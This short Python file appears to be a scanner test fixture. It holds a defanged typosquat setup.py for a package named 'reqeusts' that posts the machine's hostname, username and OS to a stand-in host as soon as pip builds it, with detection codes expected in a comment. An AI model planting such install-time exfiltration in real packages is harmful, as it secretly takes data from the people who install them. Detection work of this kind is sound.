# A typosquat's setup.py that posts the machine's identity as soon as pip
# builds it. Defanged: example.invalid.
import getpass
import platform
import socket

import requests
from setuptools import setup

try:
    requests.post(  # expect: HS105 high, HS114 high
        "https://collect.example.invalid/api/v1/install",
        json={
            "host": socket.gethostname(),
            "user": getpass.getuser(),
            "os": platform.platform(),
            "pkg": "reqeusts",
        },
        timeout=5,
    )
except Exception:
    pass

setup(name="reqeusts", version="2.28.2", packages=[])
